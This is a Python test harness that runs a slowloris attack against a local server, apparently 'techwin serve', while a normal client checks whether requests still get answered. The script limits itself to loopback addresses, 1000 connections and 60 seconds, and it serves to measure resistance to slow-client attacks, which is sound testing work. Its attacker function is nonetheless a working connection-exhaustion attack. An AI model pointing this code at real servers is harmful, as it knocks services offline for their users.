"""Slow clients against techwin serve, with a normal client alongside.

    slowloris.py PORT [--connections N] [--seconds S] [--interval I]
                      [--attack-from ADDR] [--client-from ADDR] [--path P]

Loopback only. The attacker keeps N connections to 127.0.0.1:PORT open
from ADDR (default 127.0.0.2: Linux routes all of 127/8 to lo), each
sending a request line and then one header line every I seconds, never
the blank line that ends the headers; a connection the server closes is
opened again at its next turn. Meanwhile the normal client, from another
loopback address, sends GET P on a new connection every 0.2 s. After S
seconds (at most 60) it prints one JSON object:

  normal      requests the normal client sent
  answered    of those, answered with a status line within 5 s
  statuses    the status of each answered one
  held_max    the most attacker connections open for at least a second
              at one moment
  life_max    the longest an attacker connection lived, in seconds
  opened      attacker connections opened in all

Every number is bounded: N <= 1000, S <= 60.
"""
import argparse
import json
import selectors
import socket
import sys
import threading
import time


def parse_args():
    p = argparse.ArgumentParser()
    p.add_argument("port", type=int)
    p.add_argument("--connections", type=int, default=600)
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--attack-from", default="127.0.0.2")
    p.add_argument("--client-from", default="127.0.0.1")
    p.add_argument("--path", default="/login")
    a = p.parse_args()
    if not 1 <= a.connections <= 1000 or not 0 < a.seconds <= 60:
        sys.exit("slowloris.py: at most 1000 connections for 60 seconds")
    for addr in (a.attack_from, a.client_from):
        if not addr.startswith("127."):
            sys.exit("slowloris.py: loopback addresses only")
    return a


class Slot:
    def __init__(self):
        self.sock = None
        self.opened = 0.0   # when connected
        self.next = 0.0     # when to send (or reconnect) next


def attacker(a, stop, stats):
    sel = selectors.DefaultSelector()
    slots = [Slot() for _ in range(a.connections)]
    start = time.monotonic()
    # Spread the slots over one interval so they do not move in step.
    for i, s in enumerate(slots):
        s.next = start + a.interval * i / len(slots)

    def close(s, now):
        if s.sock is None:
            return
        if s.opened:
            stats["life_max"] = max(stats["life_max"], now - s.opened)
        sel.unregister(s.sock)
        s.sock.close()
        s.sock = None
        s.opened = 0.0

    while not stop.is_set():
        now = time.monotonic()
        for s in slots:
            if s.next > now:
                continue
            s.next = now + a.interval
            if s.sock is None:
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                sock.bind((a.attack_from, 0))
                sock.setblocking(False)
                try:
                    sock.connect(("127.0.0.1", a.port))
                except BlockingIOError:
                    pass
                except OSError:
                    sock.close()
                    continue
                s.sock, s.opened = sock, 0.0
                sel.register(sock, selectors.EVENT_WRITE, s)
                stats["opened"] += 1
                continue
            if not s.opened:
                continue
            try:
                s.sock.send(b"X-Slow: 1\r\n")
            except OSError:
                close(s, now)
        for key, events in sel.select(timeout=0.05):
            s = key.data
            now = time.monotonic()
            if events & selectors.EVENT_WRITE and not s.opened:
                if s.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    close(s, now)
                    continue
                s.opened = now
                try:
                    s.sock.send(b"GET / HTTP/1.1\r\nHost: x\r\n")
                except OSError:
                    close(s, now)
                    continue
                sel.modify(s.sock, selectors.EVENT_READ, s)
            elif events & selectors.EVENT_READ:
                try:
                    data = s.sock.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    close(s, now)
        now = time.monotonic()
        held = sum(1 for s in slots if s.opened and now - s.opened >= 1)
        stats["held_max"] = max(stats["held_max"], held)
    now = time.monotonic()
    for s in slots:
        close(s, now)


def normal_client(a, stop, stats):
    while not stop.is_set():
        stats["normal"] += 1
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(5)
            sock.bind((a.client_from, 0))
            sock.connect(("127.0.0.1", a.port))
            sock.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nConnection: close"
                          "\r\n\r\n" % a.path).encode())
            data = b""
            while b"\r\n" not in data:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                data += chunk
            sock.close()
            line = data.split(b"\r\n", 1)[0].split()
            if len(line) >= 2 and line[0].startswith(b"HTTP/"):
                stats["answered"] += 1
                stats["statuses"].append(int(line[1]))
        except OSError:
            pass
        stop.wait(0.2)


def main():
    a = parse_args()
    stop = threading.Event()
    att = {"held_max": 0, "life_max": 0.0, "opened": 0}
    cli = {"normal": 0, "answered": 0, "statuses": []}
    threads = [threading.Thread(target=attacker, args=(a, stop, att)),
               threading.Thread(target=normal_client, args=(a, stop, cli))]
    for t in threads:
        t.start()
    time.sleep(a.seconds)
    stop.set()
    for t in threads:
        t.join(10)
    att["life_max"] = round(att["life_max"], 2)
    print(json.dumps(dict(cli, **att)))


main()
